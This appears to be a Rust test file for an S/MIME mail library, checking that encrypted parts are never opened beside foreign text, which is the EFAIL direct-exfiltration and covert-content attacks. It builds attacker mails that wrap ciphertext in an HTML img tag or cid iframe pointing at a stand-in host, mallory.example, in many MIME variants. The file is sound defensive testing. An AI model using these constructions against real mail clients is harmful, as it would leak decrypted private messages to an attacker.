//! Somebody puts the ciphertext of a mail into a mail of their own, so that its text becomes part of an
//! address that is fetched, or of a reply (attack 7; EFAIL, direct exfiltration and covert content). An
//! encrypted part is never opened beside anything else.

use smime_wasm::message::Form;

use crate::cases::{
    ALICE, Case, MALLORY, check, encrypted, encrypted_with, entity, inside, mail, multipart, outer,
    signed_by,
};

#[test]
fn an_encrypted_part_is_never_opened_beside_foreign_text() {
    let secret = encrypted(&mail(ALICE, "text/plain", "The secret.\r\n"));
    let part = inside(&secret);
    let opening = entity("text/html", "<img src=\"http://mallory.example/");
    let closing = entity("text/html", "\">");
    let attached = [b"Content-Type: message/rfc822\r\n\r\n", &secret[..]].concat();
    let text = String::from_utf8(part.clone()).unwrap();
    let renamed = text.replacen("application/pkcs7-mime", "application/octet-stream", 1);
    let relabelled = text.replacen("enveloped-data", "signed-data", 1);
    let gcm = encrypted_with("aes-256-gcm", &mail(ALICE, "text/plain", "The secret.\r\n"));
    let body = text.split_once("\r\n\r\n").unwrap().1.as_bytes();
    let named = [b"Content-ID: <secret@mallory.example>\r\n", &part[..]].concat();
    let stitched = "<iframe src=\"cid:secret@mallory.example\"></iframe>\
        <img src=\"http://mallory.example/";
    let left = "unsigned none null [] (layer/encrypted-part) {encrypted}";
    let case = |name, comment, message: Vec<u8>, expect| {
        Case::new(name, comment, message, expect).hides("The secret.")
    };
    let around = |subtype: &str, part: &[u8]| {
        outer(MALLORY, &multipart(subtype, &[&opening, part, &closing]))
    };
    check(
        "direct-exfiltration",
        vec![
            case("mixed", "between two parts of one tag", around("mixed", &part), left)
                .fetches("http://mallory.example/"),
            case("related", "in multipart/related", around("related", &part), left),
            case(
                "cid",
                "called by its Content-ID",
                outer(
                    MALLORY,
                    &multipart("related", &[&entity("text/html", stitched), &named, &closing]),
                ),
                left,
            ),
            case("alternative", "in multipart/alternative", around("alternative", &part), left),
            case("signed-subtype", "in a multipart nobody knows", around("x-any", &part), left),
            case("octet-stream", "under another type", around("mixed", renamed.as_bytes()), left),
            case("smime-type", "as something signed", around("mixed", relabelled.as_bytes()), left),
            case("gcm", "authenticated or not", around("mixed", &inside(&gcm)), left),
            case(
                "single",
                "alone in a multipart",
                outer(MALLORY, &multipart("mixed", &[&part])),
                "unsigned none null [] (diagnosis/wrapped, layer/encrypted-part) {encrypted}",
            ),
            case(
                "nested",
                "two multiparts down",
                outer(
                    MALLORY,
                    &multipart("mixed", &[&opening, &multipart("related", &[&part]), &closing]),
                ),
                left,
            ),
            case(
                "attached",
                "as an attached mail",
                around("mixed", &attached),
                "unsigned none null [] () {message}",
            ),
            case(
                "signed",
                "in a mail that mallory signed",
                signed_by(&["mallory"], Form::Detached, &around("mixed", &part)),
                "verified none signed/verified [signed detached verified] \
                 (layer/encrypted-part) {encrypted}",
            ),
            case(
                "encrypted",
                "in a mail that mallory encrypted",
                encrypted(&around("mixed", &part)),
                "unsigned unprotected null [encrypted none] (layer/encrypted-part) {encrypted}",
            ),
            case(
                "twice",
                "behind a ciphertext of mallory's",
                [&encrypted(&mail(MALLORY, "text/plain", "Words.\r\n"))[..], body].concat(),
                "unsigned unprotected null [encrypted none] () {}",
            )
            .shows("Words."),
            case(
                "two-boundaries",
                "in a multipart that two readers split in two ways",
                String::from_utf8(around("mixed", &part))
                    .unwrap()
                    .replacen("boundary=", "boundary=other; boundary=", 1)
                    .into_bytes(),
                "unsigned none null [] () {}",
            ),
            case(
                "message",
                "as the mail that a mail is",
                outer(MALLORY, &attached),
                "unsigned none null [] () {message}",
            ),
            case(
                "message-in-encrypted",
                "as the mail that mallory's encrypted mail is",
                encrypted(&outer(MALLORY, &attached)),
                "unsigned unprotected null [encrypted none] () {message}",
            ),
            case(
                "covert",
                "behind many empty lines",
                outer(
                    MALLORY,
                    &multipart(
                        "mixed",
                        &[&entity("text/plain", &format!("Hello?{}", "\r\n".repeat(200))), &part],
                    ),
                ),
                left,
            ),
        ],
    );
}
